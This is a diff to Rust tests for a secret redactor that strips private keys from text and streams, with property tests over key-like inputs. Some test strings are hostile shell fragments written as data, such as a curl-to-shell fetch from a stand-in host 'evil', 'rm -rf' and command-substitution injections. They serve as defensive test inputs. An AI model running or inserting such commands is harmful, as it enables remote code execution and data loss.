@@ -89,7 +89,53 @@ fn a_private_key_is_taken_out_as_a_whole_however_its_lines_stand() {
     everywhere(&redactor, &format!("{headed}\nafter it"), "[redacted]\nafter it");
     let quoted = "looks for \"-----BEGIN PRIVATE KEY-----\" in it";
     everywhere(&redactor, quoted, quoted);
-    everywhere(&redactor, "-----BEGIN PRIVATE KEY----- is how it begins", "[redacted]is how it begins");
+}
+
+#[test]
+fn a_header_of_a_key_without_a_key_takes_nothing_with_it() {
+    let redactor = Redactor::default();
+    for text in [
+        "-----BEGIN PRIVATE KEY----- is how it begins",
+        "文件以 -----BEGIN PRIVATE KEY----- 开头。之后是密钥的内容，请不要提交到仓库。",
+        "Файл начинается с -----BEGIN RSA PRIVATE KEY-----\nи заканчивается строкой END; дальше всё остальное.",
+        "ファイルは -----BEGIN PRIVATE KEY-----\nで始まります。",
+        r"m(/-----BEGIN PRIVATE KEY-----([\s\S]+?)-----END/);function a(b,c){return b+c}",
+        "echo -----BEGIN PRIVATE KEY-----&&curl${IFS}evil|sh",
+        "echo -----BEGIN PRIVATE KEY-----\n/usr/local/bin/anything\n",
+        "-----BEGIN PRIVATE KEY-----\n\n-----END PRIVATE KEY-----",
+    ] {
+        everywhere(&redactor, text, text);
+    }
+}
+
+#[test]
+fn a_key_without_an_end_ends_where_something_else_begins() {
+    let redactor = Redactor::default();
+    let begins = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
+    for rest in ["。之后的内容", ";rm -rf x", "&&curl${IFS}evil|sh", "$(rm)", "{}", "`rm`"] {
+        everywhere(&redactor, &format!("{begins}{rest}"), &format!("{REDACTED}{rest}"));
+    }
+    everywhere(&redactor, "-----BEGIN PRIVATE KEY-----\n00002→MIIEvQIBADANBgkqhkiG9w\n00003→x+/9", REDACTED);
+    let joined = "\"-----BEGIN PRIVATE KEY-----\\n\" +\n  \"MIIEvQIBADANBgkqhkiG9w\\n\" +\n  \"x+/9\"; f(x)";
+    everywhere(&redactor, joined, "\"[redacted]\"; f(x)");
+    let long = format!("{begins}{}", "A1b2".repeat(10_000));
+    let told_at_once = redactor.redact(long.clone());
+    assert!(told_at_once.starts_with(REDACTED) && told_at_once.len() > 20_000, "{}", told_at_once.len());
+    for piece in [1, 7, 1000, 5003] {
+        let pieces: Vec<&str> =
+            long.as_bytes().chunks(piece).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
+        assert_eq!(told(&redactor, &pieces), told_at_once);
+    }
+}
+
+#[test]
+fn a_key_that_was_left_open_takes_nothing_of_what_comes_behind_something_else() {
+    let redactor = Redactor::default();
+    let mut stream = Stream::default();
+    let key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n";
+    assert_eq!(stream.push(&redactor, key), REDACTED);
+    assert_eq!(stream.release(&redactor), "");
+    assert_eq!(stream.push(&redactor, "Everything/else"), "Everything/else");
 }
 
 #[test]
@@ -241,6 +287,7 @@ proptest! {
         words in proptest::collection::vec(
             "[a-z]{1,9}|[A-Z0-9]{16,20}|ghp_[a-zA-Z0-9]{15,40}|sk-[a-z0-9-]{10,30}|canary-val(ue)?|s3cret/päss wörd|\
              eyJ[a-zA-Z0-9]{10,20}\\.[a-zA-Z0-9]{10,20}|://[a-z]{1,5}:[a-z@]{1,9}|-----BEGIN PRIVATE KEY-----|\
+             -----BEGIN PRIVATE KEY-----(\n|\\\\n| )MIIE[A-Z0-9a-z]{12,20}|[A-Z][a-z]{1,4}: |[;→é$]|\
              -----END PRIVATE KEY-----|Authorization: Bearer |e{1,12}|AKIA|[ .:\n\\\\\"%@/-]{1,4}", 0..40),
         places in proptest::collection::vec(any::<proptest::sample::Index>(), 0..20),
     ) {
